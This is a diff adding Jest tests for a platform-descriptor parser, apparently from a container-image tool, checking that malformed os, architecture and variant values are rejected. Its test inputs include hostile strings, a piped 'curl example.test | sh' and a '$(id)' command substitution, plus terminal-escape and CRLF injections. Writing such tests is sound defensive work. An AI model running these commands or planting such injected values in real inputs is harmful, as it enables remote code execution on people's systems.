@@ -59,6 +59,19 @@ describe('a platform', () => {
     'is not read from %j',
     (value) => expect(readPlatform(value)).toBeUndefined(),
   );
+
+  it.each([
+    { os: 'linux\u001b[2J', architecture: 'amd64' },
+    { os: 'linux', architecture: 'amd64; curl example.test | sh' },
+    { os: 'linux', architecture: 'arm', variant: '$(id)' },
+  ])('is not read from what is no word: %j', (value) => {
+    expect(readPlatform(value)).toBeUndefined();
+  });
+
+  it('is read without a version of the system that is none', () => {
+    const value = { os: 'windows', architecture: 'amd64', 'os.version': '10\r\n' };
+    expect(readPlatform(value)).toEqual({ os: 'windows', architecture: 'amd64' });
+  });
 });
 
 describe('a machine', () => {
